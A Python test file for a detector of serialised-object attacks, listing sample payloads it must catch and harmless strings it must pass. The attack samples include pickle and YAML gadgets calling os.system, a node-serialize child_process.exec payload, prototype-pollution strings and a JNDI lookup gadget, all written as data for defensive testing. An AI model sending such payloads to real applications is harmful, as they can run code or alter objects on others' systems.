"""What a detector of serialised objects finds, and what it lets people write."""

import pytest
from everyday import EVERYDAY
from hostile import HOSTILE
from hypothesis import given, settings
from hypothesis import strategies as st

from troth.engines.seclang.detect import deserial

ATTACKS = (
    b'O:8:"stdClass":1:{s:1:"a";i:1;}',
    b'a:1:{i:0;O:4:"Evil":0:{}}',
    b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    b"aced00057372001164",
    b"AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=",
    b"cos\nsystem\n(S'id'\ntR.",
    b'{"__proto__":{"admin":true}}',
    b"__proto__[admin]=1",
    b"constructor[prototype][x]=1",
    b"{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
    b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]',
    b'!!python/object/apply:os.system ["id"]',
    b"--- !ruby/object:Gem::Installer\ni: x",
    b'{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x/y"}',
    b'{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}',
    b'["com.sun.rowset.JdbcRowSetImpl",{}]',
)
HARMLESS = (
    b'a:2:{s:3:"foo";s:3:"bar";i:0;i:1;}',
    b"BAh7B0kiD3Nlc3Npb25faWQGOgZFVEkiJTEyMw==--abcdef",
    b"/wEPDwULLTE2MTY2ODcyMjkPFgI=",
    b"the __proto__ of an object",
    b'{"type":"a.b"}',
    b"Wow!! great",
    b"O:1",
)


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found(value: bytes):
    assert deserial.find(value)


@pytest.mark.parametrize("value", [*HARMLESS, *EVERYDAY])
def test_what_people_write_passes(value: bytes):
    assert deserial.find(value) is None


@given(
    st.binary(max_size=200)
    | st.sampled_from(ATTACKS).flatmap(
        lambda a: st.binary(max_size=8).map(lambda b: a[:40] + b + a[40:])
    )
)
@settings(max_examples=150, deadline=None)
def test_it_never_raises(value: bytes):
    assert deserial.find(value) is None or isinstance(deserial.find(value), str)


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_values_come_to_an_end(unit: bytes):
    value = unit * (16384 // len(unit))

    assert deserial.recognise(value) == deserial.recognise(value)
